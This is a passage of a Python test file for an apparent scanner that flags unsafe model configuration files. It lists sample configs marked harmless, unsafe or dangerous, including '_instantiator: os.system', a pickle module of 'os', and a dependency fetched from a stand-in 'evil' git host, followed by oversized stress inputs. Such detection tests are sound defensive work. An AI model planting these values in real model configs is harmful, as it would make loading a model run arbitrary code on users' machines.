                "_kw_requires_import": ["conv_op", "norm_op", "dropout_op", "nonlin"],
            }
        ),
        H,
    ),
    ("a.json", js({"kv_connector_module_path": "evil"}), U),
    ("a.json", js({"uses": "evil.mod.comp"}), U),
    ("a.json", js({"uses": "a text"}), H),
    ("model-settings.json", js({"implementation": "evil.model"}), U),
    ("a.json", js({"implementation": "flash_attention_2"}), H),
    ("a.json", js({CALL: None}), U),
    ("a.json", js({"f(x)": 1, "import": 2, "a (b)": 3}), H),
    ("meta.json", js({"requirements": ["evil @ git+https://e/x"]}), U),
    ("meta.json", js({"requirements": ["spacy-transformers>=1.1.2,<1.2.0"], "lang": "en"}), H),
    ("pickle_module_info.txt", "evil", U),
    ("pickle_module_info.txt", "os\n", D),
    ("pickle_module_info.txt", "mlflow.pytorch.pickle_module", H),
    ("keras_module.txt", "evil", U),
    ("keras_module.txt", "tensorflow.keras", H),
    ("keras_module.txt", "keras\n", H),
    ("notes.txt", "evil", H),
]
MAKERS = [
    ("hparams.yaml", "_instantiator: evil.mod.fn\n", U),
    ("hparams.yaml", "_instantiator: os.system\n", D),
    ("a.json", js({"_instantiator": "evil"}), U),
    ("hparams.yaml", "_instantiator: lightning.pytorch.cli.instantiate_module\nlr: 0.1\n", H),
]


def cases():
    for key, values, verdict in PYTHON:
        for value in values:
            yield "p.json", js({"stride": 32, key: value}), verdict
            yield "p.yaml", "stride: 32\n%s: %s\n" % (key, js(value)), verdict
    for name, text, verdict in [
        *EVALUATED,
        *LAYERS,
        *LOADED,
        *NAMED,
        *CODE,
        *KERAS,
        *FILES,
        *GRAPHS,
        *HIDDEN,
        *FAR,
        *PAIRS,
        *PROGRAMS,
        *MAKERS,
    ]:
        yield name, text, verdict
    yield "long.yaml", "backbone:\n" + "- [-1, 1, Conv, [64, 'a', \"b\"]]\n" * 300000, H
    yield "calls.yaml", "a: f(x)\n" * 1250000, H
    yield "brackets.yaml", "[" * (11 << 20), H
    yield "quote.yaml", "a: '" + "b" * (11 << 20), H
    yield "block.yaml", "a: |\n" + "  f(x)\n" * 1000000, H
    yield "blocks.yaml", "a: |\n" * 2000000, H
    yield "words.yaml", "the-module-handler-code: a b\n" * 350000, H
    yield "import.yaml", 'a: "import ' * 900000, H
    yield "keras.yaml", "class_name: Dense\nconfig: x\n" * 350000, H
    yield "calls.json", js({"x": ["f(x)"] * 1500000}), H
    yield "paths.json", js({"command": ["a;b;c;"] * 1500000}), H
    yield "requirements.txt", "torch==2.0 # x\n" * 2000000, H


def settings_cases():
    for name, text, verdict in cases():
        case(name, text, verdict)


if __name__ == "__main__":
    sys.exit(program((settings_cases,)))
